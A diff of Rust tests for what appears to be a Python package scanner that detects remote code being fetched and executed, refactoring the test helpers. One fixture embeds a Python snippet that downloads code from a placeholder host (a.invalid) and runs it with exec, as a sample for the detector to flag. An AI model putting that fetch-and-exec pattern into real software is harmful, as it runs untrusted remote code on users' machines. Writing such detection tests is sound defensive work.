@@ -1,6 +1,5 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Entry, Tree, text_file as file};
+use crate::flow::testing::{found, wheel};
+use crate::unpack::{Entry, text_file as file};
 use customs_model::{SinkKind, SourceKind, Zone};
 
 /// Code that is fetched and run, in a function that somebody has to call.
@@ -12,12 +11,7 @@ def go(*more, **named):
 ";
 
 fn runs_by(entries: Vec<Entry>, zone: Zone) -> bool {
-    let found = analyse(&Package::new(&Tree {
-        entries,
-        ..Tree::default()
-    }));
-    let mut flows = found.flows.iter();
-    flows.any(|flow| {
+    found(entries).flows.iter().any(|flow| {
         flow.source == SourceKind::Remote
             && matches!(flow.sink, SinkKind::DynamicCode | SinkKind::Process)
             && flow.zone >= zone
@@ -26,11 +20,8 @@ fn runs_by(entries: Vec<Entry>, zone: Zone) -> bool {
 
 /// Whether importing a package runs what its module `b` can do.
 fn module(code: &str, others: &[(&str, &str)]) -> bool {
-    let mut entries = vec![
-        file("a/__init__.py", code),
-        file("a/b.py", GO),
-        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
-    ];
+    let mut entries = wheel(code);
+    entries.push(file("a/b.py", GO));
     entries.extend(others.iter().map(|(path, text)| file(path, text)));
     runs_by(entries, Zone::Import)
 }
@@ -337,13 +328,7 @@ fn an_address_is_what_a_field_or_a_property_gives() {
     let remote = "import urllib.request\nclass C:\n    def __init__(self, u):\n        self._u = 'https://a.invalid/b'\n    @property\n    def url(self):\n        return 'https://a.invalid/b'\n    def run(self):\n        exec(urllib.request.urlopen(ADDRESS).read())\nC(1).run()\n";
     for address in ["self._u", "self.url", "C(1).url"] {
         let code = remote.replace("ADDRESS", address);
-        let found = analyse(&Package::new(&Tree {
-            entries: vec![
-                file("a/__init__.py", &code),
-                file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
-            ],
-            ..Tree::default()
-        }));
+        let found = found(wheel(&code));
         let mut flows = found.flows.iter();
         assert!(
             flows.any(|flow| flow.source_name.contains("a.invalid")),
@@ -373,15 +358,11 @@ fn a_module_that_is_written_where_a_file_looks_for_modules_is_run_by_its_import(
 }
 
 fn runs_file(code: &str) -> bool {
-    let found = analyse(&Package::new(&Tree {
-        entries: vec![
-            file("a/__init__.py", code),
-            file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
-        ],
-        ..Tree::default()
-    }));
-    let mut flows = found.flows.iter();
-    flows.any(|flow| flow.source == SourceKind::Remote && flow.zone == Zone::Import)
+    let found = found(wheel(code));
+    found
+        .flows
+        .iter()
+        .any(|flow| flow.source == SourceKind::Remote && flow.zone == Zone::Import)
 }
 
 #[test]
